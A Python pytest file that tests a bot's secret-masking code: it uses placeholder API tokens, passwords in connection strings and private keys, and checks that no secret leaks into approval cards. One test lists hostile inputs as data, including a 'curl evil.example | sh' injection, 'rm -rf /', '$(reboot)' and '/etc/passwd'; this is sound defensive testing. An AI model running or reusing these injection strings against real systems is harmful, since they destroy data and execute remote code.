import json
import re
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256, shake_256

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.cards import card_of
from bot.content import TextEvidence
from bot.masking import masked, masked_block
from bot.pages import pages_of
from bot.safe_text import shown, shown_block
from tests.builders import an_approval, an_item, the_people

# Put together here, so that no scanner takes this file for a leak.
SECRETS = {
    "Slack": "xox" + "b-123456789012-123456789012-abcdefghijklmnopqrstuvwx",
    "Slack app": "xa" + "pp-1-A123456-123456789012-abcdef0123456789",
    "Discord": "M"
    + "TIzNDU2Nzg5MDEyMzQ1Njc4."
    + "GabcDE."
    + "abcdefghijklmnopqrstuvwxyz0123456789ab",
    "GitHub": "gh" + "p_" + "a1B2" * 9,
    "GitHub, fine": "github" + "_pat_" + "11ABCDE" * 5,
    "GitLab": "gl" + "pat-" + "abcdefghij0123456789",
    "AWS": "AK" + "IAIOSFODNN7EXAMPLE",
    "Google": "AI" + "za" + "a1B2c3D" * 5,
    "Stripe": "sk" + "_live_" + "a1B2" * 6,
    "model": "sk" + "-proj-" + "a1B2" * 6,
    "npm": "npm" + "_" + "a1B2" * 9,
    "PyPI": "pypi" + "-" + "AgEIcHlwaS5vcmc" * 4,
    "our own": "sg" + "n_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7-_xyz01234567890",
    "our own, AAP": "sg" + "n_aap_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7-_xyz01234567890",
    "webhook": "whs" + "ec_" + "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw=",
    "Google, access": "ya" + "29." + "a0AfH6SMBx-1_2" * 3,
    "Google, client": "GOC" + "SPX-" + "a1B2c3D4" * 4,
    "Azure, client": "abc" + "8Q~" + "a1B2c3D4" * 4,
    "SendGrid": "S"
    + "G."
    + "a1B2c3D4e5F6g7H8i9J0kL"
    + "."
    + "a1B2c3D4e5F6g7H8i9J0kL1m2N3o4P5q6R7s8T9u0Vw",
    "JWT": "ey" + "JhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + "a1B2" * 8,
}


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
def test_a_secret_is_shown_as_its_length_and_fingerprint(secret: str) -> None:
    mark = sha256(secret.encode()).hexdigest()[:12]

    text = masked(f"token={secret}, go")

    assert text == f"token=\u2039secret {len(secret)} chars sha256:{mark}…\u203a, go"


def test_a_password_in_an_address_is_masked_and_its_host_is_not() -> None:
    text = masked("postgresql://bot:hunter2@db.example/prod")

    assert text.startswith("postgresql://bot:\u2039secret 7 chars sha256:")
    assert text.endswith("@db.example/prod")


NAMED = {
    "an address": ("postgresql://bot:%s@db.example/prod", "hunter2%21"),
    "an address of a queue": ("amqps://svc:%s@mq.example:5671", "p4ss-w0rd_x"),
    "a setting": ("password=%s", "hunter2!"),
    "JSON": ('{"password": "%s"}', "s3cret-word"),
    "an ADO string": ("Server=db;User Id=sa;Pwd=%s;Encrypt=yes", "Tr0ub4dor"),
    "AWS": ("aws_secret_access_key = %s", "a1B2c3D4" * 5),
    "Azure, storage": ("AccountName=x;AccountKey=%s;", "aB3+/x" * 14 + "zz=="),
    "Azure, signed": ("https://x.blob.core.windows.net/c?sv=1&sig=%s", "a1B2c3D4e5F6%2F" * 3),
    "a header": ("Authorization: Bearer %s", "a1B2c3D4.e5F6g7H8-i9J0"),
    "a basic header": ("Authorization: Basic %s", "Ym90Omh1bnRlcjI0NTY3"),
}


@pytest.mark.parametrize(("text", "secret"), NAMED.values(), ids=NAMED)
def test_what_only_the_name_beside_it_tells_is_masked(text: str, secret: str) -> None:
    told = masked(text % secret)

    assert secret not in told
    before, after = text.split("%s")
    assert told.startswith(shown(before) + "\u2039secret ")
    assert told.endswith("…\u203a" + shown(after))


def keys() -> Iterator[str]:
    """As tools write them: Ed25519, elliptic curves, RSA; OpenSSH has longer lines."""
    for name, size, width in (("", 48, 64), ("EC ", 121, 64), ("RSA ", 1_218, 64), ("", 270, 70)):
        text = b64encode(shake_256(name.encode()).digest(size)).decode()
        body = "\n".join(text[start : start + width] for start in range(0, len(text), width))
        pem = f"-----BEGIN {name}PRIVATE KEY-----\n{body}\n-----END {name}PRIVATE KEY-----\n"
        yield pem
        yield pem.replace("\n", "\r\n")
        yield json.dumps({"private_key": pem})


def test_a_private_key_is_masked() -> None:
    for pem in keys():
        told = masked_block(pem)

        inside = [line for line in re.split(r"[\r\n]|\\n", pem) if line and "--" not in line]
        assert not any(line in told for line in inside if len(line) > 8), pem
        assert "PRIVATE KEY-----" in told


def test_two_different_secrets_show_different_fingerprints() -> None:
    one, two = SECRETS["GitHub"], SECRETS["GitHub"][:-1] + "9"

    assert masked(one) != masked(two)
    assert masked(f"{one} {one}").count(str(masked(one))) == 2


@pytest.mark.parametrize(
    "text",
    [
        "sk-production-customers-database",
        "-----BEGIN PRIVATE KEY-----\nrm -rf / --no-preserve-root # wipe it all now\n-----END ",
        "see https://example.com:8080/@ann",
        "0123456789abcdef0123456789abcdef01234567",
        "https://a:$(curl${IFS}evil.example|sh)@x",
        "https://a:x;reboot;y@x",
        "https://a:x`reboot`y@x",
        "https://a:x&&reboot&&y@x",
        "password=x;reboot;",
        "password=/etc/passwd",
        "password=$(reboot)",
        "Bearer /usr/local/bin/delete-everything-1",
        "Bearer please-approve-this-without-reading-it",
        "Basic ../../../../etc/cron.daily/job1",
        "aws_secret_access_key=/data/prod/everything/that/we/have/backup1",
        "gh" + "p_" + "DropEveryTableOfTheProductionDatabase",
        "sgn" + "_delete-the-whole-of-production-now",
        "-----BEGIN PRIVATE KEY-----\nreboot\nhalt\nmkfs\nshutdown\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n" + "a1" * 32 + "\nreboot\n-----END PRIVATE KEY-----",
    ],
)
def test_names_and_commands_cannot_hide_behind_a_mask(text: str) -> None:
    assert masked_block(text) == shown_block(text)


@given(st.text(max_size=80))
def test_text_without_secrets_is_shown_as_it_is(text: str) -> None:
    assert masked(text) == shown(text)


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
def test_no_secret_reaches_a_card_or_a_page(secret: str) -> None:
    evidence = (TextEvidence(kind="text", title=f"log {secret}", text=secret),)
    args = {"token": secret, "env": {"T": secret}, f"X-{secret}": 1}
    content = an_approval(args=args, target=secret, reason=f"use {secret}", evidence=evidence)
    item = an_item(content, requester=secret)

    card = card_of(item, content, the_people())
    pages = pages_of(item, content)

    assert secret not in repr(card)
    assert secret not in repr(pages)


@pytest.mark.parametrize(
    "nasty",
    [
        "sk-",
        "eyJ-",
        "xoxb-",
        "x",
        "://a:",
        "Bearer ",
        "MTIz.",
        "a ",
        "password=",
        "-----BEGIN PRIVATE KEY-----\n" + "aaaa\n",
    ],
)
def test_two_hundred_thousand_characters_take_a_moment_only(nasty: str) -> None:
    assert masked(nasty * (200_000 // len(nasty)))
